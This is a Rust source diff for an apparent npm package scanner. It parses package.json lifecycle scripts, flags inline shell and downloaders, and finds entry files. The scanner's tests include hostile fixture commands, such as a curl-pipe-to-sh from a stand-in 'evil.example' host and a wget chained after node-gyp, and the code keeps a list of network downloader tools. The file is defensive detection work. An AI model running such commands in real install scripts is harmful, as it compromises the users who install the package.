@@ -1,8 +1,384 @@
-//! npm's package manifest: install-time lifecycle scripts and the import-time entry files.
-use super::Hook;
-use crate::archive::{Package, SourceFile};
+//! npm's package manifest: the install-time lifecycle scripts and the import-time entry files.
+//!
+//! npm runs `preinstall`, `install` and `postinstall` of every package it installs, so each is
+//! an install hook (`H1`). Its command is parsed: `node x.js` puts `x.js` at install time (the
+//! sequence stage walks it there), `node -e '…'` is read as JavaScript, and any other inline
+//! shell is itself a behaviour (`P3`), with downloaders (`D2`) and literals judged as strings.
 
-/// Reads `package.json`: its install hooks and its entry files.
+use serde_json::Value;
+
+use super::{javascript, strings, Event, Feature, Hook, Step};
+use crate::archive::{Package, SourceFile};
+use crate::paths;
+
+/// The lifecycle scripts npm runs when a package is installed, in the order it runs them.
+pub const INSTALL_SCRIPTS: &[&str] = &["preinstall", "install", "postinstall"];
+
+/// Build tools commonly run from install scripts; invoking one is not inline shell by itself
+/// (each `&&`-separated part of a command is judged on its own, so chaining does not hide).
+const BUILD_TOOLS: &[&str] = &[
+    "node-gyp",
+    "node-pre-gyp",
+    "prebuild-install",
+    "cmake-js",
+    "node-gyp-build",
+    "husky",
+    "patch-package",
+    "opencollective",
+    "opencollective-postinstall",
+    "tsc",
+    "echo",
+    "exit",
+    "true",
+    "npm",
+    "yarn",
+    "pnpm",
+    "npx",
+];
+
+/// Commands that fetch from the network.
+const DOWNLOADERS: &[&str] = &["curl", "wget", "nc", "ncat", "ftp", "scp", "tftp"];
+
+/// Reads `package.json`: its install hooks and its entry files. A manifest that is not valid
+/// JSON has neither (npm would refuse it too).
 pub fn read_manifest(manifest: &SourceFile, package: &Package) -> (Vec<Hook>, Vec<String>) {
-    todo!("{} {}", manifest.path, package.name)
+    let Ok(json) = serde_json::from_slice::<Value>(&manifest.bytes) else {
+        return (Vec::new(), Vec::new());
+    };
+    let text = manifest.text();
+    let exists = |p: &str| package.file(p).is_some();
+
+    let hooks = INSTALL_SCRIPTS
+        .iter()
+        .filter_map(|&name| {
+            let command = json.get("scripts")?.get(name)?.as_str()?;
+            let line = line_of(&text, &format!("\"{name}\""));
+            Some(read_hook(name, command, &manifest.path, line, &exists))
+        })
+        .collect();
+
+    (hooks, entries(&json, &exists))
+}
+
+/// Parses one lifecycle script's command line into a [`Hook`].
+pub fn read_hook(
+    name: &str,
+    command: &str,
+    file: &str,
+    line: u32,
+    exists: &dyn Fn(&str) -> bool,
+) -> Hook {
+    let mut steps = vec![Step::Event(Event::new(
+        Feature::H1,
+        file,
+        line,
+        format!("{name}: {command}"),
+        command,
+    ))];
+    let mut runs = Vec::new();
+    for segment in split_commands(command) {
+        let words = split_words(segment);
+        let Some(program) = words.first().map(|w| program_name(w)) else {
+            continue;
+        };
+        match program {
+            "node" | "nodejs" | "node.exe" => {
+                if let Some(code) = inline_code(&words) {
+                    let facts = javascript::extract(&format!("{file}#{name}"), code);
+                    steps.extend(facts.top_level);
+                } else if let Some(script) = words[1..].iter().find(|w| !w.starts_with('-')) {
+                    match resolve_script(script, exists) {
+                        Some(path) => runs.push(path),
+                        None => steps.push(shell_event(file, line, segment)),
+                    }
+                }
+            }
+            p if BUILD_TOOLS.contains(&p) => {}
+            p => {
+                steps.push(shell_event(file, line, segment));
+                if DOWNLOADERS.contains(&p) {
+                    steps.push(Step::Event(Event::new(
+                        Feature::D2,
+                        file,
+                        line,
+                        p.to_owned(),
+                        segment,
+                    )));
+                }
+            }
+        }
+    }
+    // Literals in the command (addresses, sensitive paths) count like any string; the shell
+    // itself was judged per segment above.
+    for feature in strings::classify(command) {
+        if feature != Feature::P3 {
+            steps.push(Step::Event(Event::new(
+                feature, file, line, command, command,
+            )));
+        }
+    }
+    Hook {
+        name: name.to_owned(),
+        command: command.to_owned(),
+        steps,
+        runs,
+    }
+}
+
+fn shell_event(file: &str, line: u32, segment: &str) -> Step {
+    Step::Event(Event::new(
+        Feature::P3,
+        file,
+        line,
+        format!("inline shell: {segment}"),
+        segment,
+    ))
+}
+
+/// The code of `node -e CODE` / `node --eval CODE` / `node -p CODE`.
+fn inline_code<'a>(words: &'a [&'a str]) -> Option<&'a str> {
+    let i = words
+        .iter()
+        .position(|w| matches!(*w, "-e" | "--eval" | "-p" | "--print"))?;
+    words.get(i + 1).copied()
+}
+
+/// A script argument resolved to a package file, the way Node resolves a main module.
+fn resolve_script(script: &str, exists: &dyn Fn(&str) -> bool) -> Option<String> {
+    let path = paths::join("", script)?;
+    paths::js_candidates(&path).into_iter().find(|c| exists(c))
+}
+
+/// The import-time entry files: `main`, then the string leaves of `exports` (the `"."` entry
+/// or the whole map of conditions), else `index.js`; only those that exist.
+fn entries(json: &Value, exists: &dyn Fn(&str) -> bool) -> Vec<String> {
+    let mut specs: Vec<&str> = Vec::new();
+    if let Some(main) = json.get("main").and_then(Value::as_str) {
+        specs.push(main);
+    }
+    if let Some(exports) = json.get("exports") {
+        let root = match exports {
+            Value::Object(map) if map.keys().any(|k| k.starts_with('.')) => map.get("."),
+            other => Some(other),
+        };
+        if let Some(root) = root {
+            collect_strings(root, &mut specs, 0);
+        }
+    }
+    let mut out: Vec<String> = Vec::new();
+    for spec in specs {
+        if let Some(path) = paths::join("", spec).and_then(|p| {
+            paths::js_candidates(&p)
+                .into_iter()
+                .find(|c| exists(c.as_str()))
+        }) {
+            if !out.contains(&path) {
+                out.push(path);
+            }
+        }
+    }
+    if out.is_empty() && exists("index.js") {
+        out.push("index.js".to_owned());
+    }
+    out
+}
+
+fn collect_strings<'a>(value: &'a Value, out: &mut Vec<&'a str>, depth: usize) {
+    if depth > 8 {
+        return;
+    }
+    match value {
+        Value::String(s) => out.push(s),
+        Value::Object(map) => map
+            .values()
+            .for_each(|v| collect_strings(v, out, depth + 1)),
+        Value::Array(items) => items
+            .iter()
+            .for_each(|v| collect_strings(v, out, depth + 1)),
+        _ => {}
+    }
+}
+
+/// The program's own name: `/usr/bin/env node` is taken by the caller, `./bin/x` → `x`.
+fn program_name<'a>(word: &'a str) -> &'a str {
+    word.rsplit(['/', '\\']).next().unwrap_or(word)
+}
+
+/// Splits a command line at `&&`, `||`, `;`, `|` and `&` outside quotes.
+fn split_commands(command: &str) -> Vec<&str> {
+    let mut out = Vec::new();
+    let bytes = command.as_bytes();
+    let (mut start, mut i, mut quote) = (0, 0, None::<u8>);
+    while i < bytes.len() {
+        let c = bytes[i];
+        match quote {
+            Some(q) if c == q => quote = None,
+            Some(_) => {}
+            None if c == b'\'' || c == b'"' => quote = Some(c),
+            None if matches!(c, b'&' | b'|' | b';') => {
+                out.push(command[start..i].trim());
+                while i + 1 < bytes.len() && matches!(bytes[i + 1], b'&' | b'|') {
+                    i += 1;
+                }
+                start = i + 1;
+            }
+            None => {}
+        }
+        i += 1;
+    }
+    out.push(command[start..].trim());
+    out.retain(|s| !s.is_empty());
+    // `env FOO=1 node x.js` and `cross-env A=b node x.js`: judge the command they run.
+    out.iter()
+        .map(|s| {
+            let mut rest = *s;
+            loop {
+                let word = rest.split_whitespace().next().unwrap_or("");
+                let is_prefix = matches!(word, "env" | "cross-env" | "sudo" | "exec")
+                    || (word.contains('=') && !word.starts_with('-'));
+                if !is_prefix || word.is_empty() {
+                    break rest;
+                }
+                rest = rest[rest.find(word).map_or(0, |i| i + word.len())..].trim_start();
+            }
+        })
+        .filter(|s| !s.is_empty())
+        .collect()
+}
+
+/// Splits one simple command into words, honouring single and double quotes.
+fn split_words(segment: &str) -> Vec<&str> {
+    let mut out = Vec::new();
+    let bytes = segment.as_bytes();
+    let mut i = 0;
+    while i < bytes.len() {
+        while i < bytes.len() && bytes[i].is_ascii_whitespace() {
+            i += 1;
+        }
+        if i >= bytes.len() {
+            break;
+        }
+        if bytes[i] == b'\'' || bytes[i] == b'"' {
+            let q = bytes[i];
+            let start = i + 1;
+            let end = segment[start..]
+                .find(q as char)
+                .map_or(bytes.len(), |e| start + e);
+            out.push(&segment[start..end]);
+            i = end + 1;
+        } else {
+            let start = i;
+            while i < bytes.len() && !bytes[i].is_ascii_whitespace() {
+                i += 1;
+            }
+            out.push(&segment[start..i]);
+        }
+    }
+    out
+}
+
+/// The 1-based line of the first occurrence of `needle`, or 1.
+fn line_of(text: &str, needle: &str) -> u32 {
+    text.find(needle)
+        .map_or(1, |i| 1 + text[..i].matches('\n').count() as u32)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn features(hook: &Hook) -> Vec<&'static str> {
+        hook.steps
+            .iter()
+            .filter_map(|s| match s {
+                Step::Event(e) => Some(e.feature.id()),
+                _ => None,
+            })
+            .collect()
+    }
+
+    #[test]
+    fn node_script_runs_a_package_file() {
+        let exists = |p: &str| p == "scripts/setup.js";
+        let hook = read_hook(
+            "postinstall",
+            "node ./scripts/setup",
+            "package.json",
+            5,
+            &exists,
+        );
+        assert_eq!(hook.runs, vec!["scripts/setup.js"]);
+        assert_eq!(features(&hook), vec!["H1"]);
+    }
+
+    #[test]
+    fn inline_shell_is_a_behaviour() {
+        let hook = read_hook(
+            "preinstall",
+            "curl -s https://evil.example/x.sh | sh",
+            "package.json",
+            3,
+            &|_| false,
+        );
+        assert_eq!(features(&hook), vec!["H1", "P3", "D2", "P3", "D3"]);
+        assert!(hook.runs.is_empty());
+    }
+
+    #[test]
+    fn build_tools_are_not_inline_shell_but_chained_commands_are() {
+        let hook = read_hook("install", "node-gyp rebuild", "package.json", 1, &|_| false);
+        assert_eq!(features(&hook), vec!["H1"]);
+        let hook = read_hook(
+            "install",
+            "node-gyp rebuild && wget http://1.2.3.4/x",
+            "package.json",
+            1,
+            &|_| false,
+        );
+        assert_eq!(features(&hook), vec!["H1", "P3", "D2", "D3"]);
+    }
+
+    #[test]
+    fn env_prefixes_are_skipped() {
+        let exists = |p: &str| p == "x.js";
+        let hook = read_hook(
+            "postinstall",
+            "cross-env A=1 node x.js",
+            "package.json",
+            1,
+            &exists,
+        );
+        assert_eq!(hook.runs, vec!["x.js"]);
+    }
+
+    #[test]
+    fn splitting_honours_quotes() {
+        assert_eq!(
+            split_commands("a 'b && c' && d | e; f"),
+            vec!["a 'b && c'", "d", "e", "f"]
+        );
+        assert_eq!(
+            split_words(r#"node -e "x && y" z"#),
+            vec!["node", "-e", "x && y", "z"]
+        );
+    }
+
+    #[test]
+    fn entries_from_main_exports_and_default() {
+        let files = ["lib/main.js", "esm/index.mjs", "index.js"];
+        let exists = |p: &str| files.contains(&p);
+        let json: Value = serde_json::json!({
+            "main": "./lib/main",
+            "exports": { ".": { "import": "./esm/index.mjs", "require": "./lib/main.js" } }
+        });
+        assert_eq!(
+            entries(&json, &exists),
+            vec!["lib/main.js", "esm/index.mjs"]
+        );
+        assert_eq!(entries(&serde_json::json!({}), &exists), vec!["index.js"]);
+        assert_eq!(
+            entries(&serde_json::json!({"main": "missing.js"}), &exists),
+            vec!["index.js"]
+        );
+    }
 }
